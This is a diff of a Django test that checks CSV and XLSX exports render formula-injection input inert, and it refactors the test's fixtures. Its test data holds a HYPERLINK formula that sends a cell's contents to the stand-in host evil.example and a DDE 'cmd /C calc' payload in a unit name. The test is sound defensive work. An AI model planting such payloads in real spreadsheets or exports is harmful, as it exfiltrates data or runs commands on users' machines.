@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import csv
 import io
+from types import SimpleNamespace
 
 import pytest
 from django.test import Client
@@ -11,7 +12,7 @@ from django.urls import reverse
 from openpyxl import load_workbook
 
 from beredd.reporting.services import submissions as services
-from beredd.reporting.tests.conftest import GOOD, Cast, issue
+from beredd.reporting.tests.conftest import GOOD, issue
 from beredd.reporting.tests.test_views import as_user, sub
 
 EVIL = '=HYPERLINK("https://evil.example/?"&A1;"Klicka")'
@@ -29,14 +30,16 @@ def _cells(response: object, fmt: str) -> list[tuple[object, str]]:
 
 @pytest.mark.parametrize("fmt", ["csv", "xlsx"])
 @pytest.mark.parametrize("kind", ["answers", "rollup"])
-def test_a_formula_in_free_text_or_a_unit_name_is_exported_inert(client: Client, cast: Cast, kind: str, fmt: str) -> None:
-    unit = cast.units["g1"]
+def test_a_formula_in_free_text_or_a_unit_name_is_exported_inert(
+    client: Client, world: SimpleNamespace, kind: str, fmt: str
+) -> None:
+    unit = world.g1
     unit.name = "@SUM(1+1)*cmd|' /C calc'!A0"
     unit.save(update_fields=["name"])
-    round_ = issue(cast)
-    services.submission_submit(actor=cast.users["g1"], submission=sub(cast, round_, "g1"), data=GOOD | {"assessment": EVIL})
+    round_ = issue(world)
+    services.submission_submit(actor=world.g1_reporter, submission=sub(world, round_, "g1"), data=GOOD | {"assessment": EVIL})
     instance = round_.instances.get()
-    response = as_user(client, cast.users["gavle"]).get(reverse("reporting:export", args=[instance.pk, kind, fmt]))
+    response = as_user(client, world.gavle_coord).get(reverse("reporting:export", args=[instance.pk, kind, fmt]))
     assert response.status_code == 200
     cells = _cells(response, fmt)
     assert all(t != "f" for _v, t in cells)
